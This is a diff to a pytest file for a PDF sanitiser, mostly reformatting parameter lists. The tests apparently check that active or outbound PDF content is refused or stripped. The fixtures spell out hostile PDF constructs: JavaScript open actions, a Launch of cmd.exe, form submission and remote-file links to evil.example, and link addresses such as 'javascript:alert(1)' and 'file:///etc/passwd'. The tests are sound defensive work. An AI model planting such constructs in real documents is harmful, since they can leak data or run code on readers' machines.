@@ -82,9 +82,12 @@ def packed(hide: Callable[[Pdf], None]) -> bytes:
 
 SERVER = rb"(\\\\evil.example\\share\\a.pdf)"  # \\evil.example\share\a.pdf
 HOSTILE = {
-    "behind a comment": behind_a_comment(), "before an object stream": before_an_object_stream(), "in a string": in_a_string(),
+    "behind a comment": behind_a_comment(),
+    "before an object stream": before_an_object_stream(),
+    "in a string": in_a_string(),
     "escaped name": pdf(extra=b"/OpenAction << /S /J#61vaScript /JS (x) >>"),
-    "script on opening": made(in_catalogue(OpenAction=JS)), "packed script": packed(in_catalogue(OpenAction=JS)),
+    "script on opening": made(in_catalogue(OpenAction=JS)),
+    "packed script": packed(in_catalogue(OpenAction=JS)),
     "script on closing": made(in_catalogue(AA=b"<< /WC %s >>" % JS)),
     "named script": made(in_catalogue(Names=b"<< /JavaScript << /Names [(a) %s] >> >>" % JS)),
     "form of XML": made(in_catalogue(AcroForm=b"<< /Fields [] /XFA (<xdp/>) >>")),
@@ -92,10 +95,11 @@ HOSTILE = {
     "packed form that sends": packed(linked(b"<< /S /SubmitForm /F (https://evil.example/) >>")),
     "file on a server": made(linked(b"<< /S /GoToR /D [0 /Fit] /F %s >>" % SERVER)),
     "program behind a step": made(linked(b"<< /S /GoTo /D [0 /Fit] /Next [<< /S /Launch /F (cmd.exe) >>] >>")),
-    "unknown action": made(linked(b"<< /S /Whatever >>")), "attachment": made(attached),
+    "unknown action": made(linked(b"<< /S /Whatever >>")),
+    "attachment": made(attached),
     "picture on a server": made(in_catalogue(PieceInfo=b"<< /Type /Filespec /F %s >>" % SERVER)),
     "film": made(linked(b"<< /S /Rendition /OP 0 >>")),
-}  # fmt: skip
+}
 
 
 @pytest.mark.parametrize("hidden", HOSTILE)
@@ -107,13 +111,7 @@ def test_whatever_may_act_is_refused(hidden: str) -> None:
 
 @pytest.mark.parametrize(
     "address",
-    [
-        "javascript:alert(1)",
-        "JAVA\tSCRIPT:alert(1)",
-        "file:///etc/passwd",
-        r"\\evil.example\x",
-        "data:text/html,x",
-    ],
+    ["javascript:alert(1)", "JAVA\tSCRIPT:alert(1)", "file:///etc/passwd", r"\\evil.example\x", "data:text/html,x"],
 )
 def test_links_that_lead_elsewhere_are_taken_out(address: str) -> None:
     kept = examined(made(linked(b"<< /S /URI /URI <%s> >>" % address.encode().hex().encode()))).content
@@ -150,13 +148,17 @@ def test_pages_are_counted_and_the_same_file_stays_the_same(pages: int) -> None:
 @pytest.mark.parametrize(
     ("content", "reason"),
     [
-        (b"<html>", "kind"), (b"\x89PNG" + pdf(), "kind"), (pdf()[:-7], "broken"), (pdf()[: len(pdf()) // 2], "broken"),
+        (b"<html>", "kind"),
+        (b"\x89PNG" + pdf(), "kind"),
+        (pdf()[:-7], "broken"),
+        (pdf()[: len(pdf()) // 2], "broken"),
         (b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF", "broken"),
-        (b"%PDF-1.4\n1 0 obj << >> stream %%EOF", "broken"), (b"%PDF-" + b"\x00" * 5000 + b"%%EOF", "broken"),
+        (b"%PDF-1.4\n1 0 obj << >> stream %%EOF", "broken"),
+        (b"%PDF-" + b"\x00" * 5000 + b"%%EOF", "broken"),
         (made(lambda _file: None, encryption=pikepdf.Encryption(owner="o", user="u")), "locked"),
         (made(lambda _file: None, encryption=pikepdf.Encryption(owner="o", user="")), "locked"),
     ],
-)  # fmt: skip
+)
 def test_what_is_not_taken(content: bytes, reason: str) -> None:
     with pytest.raises(NotAcceptable) as answer:
         examined(content)
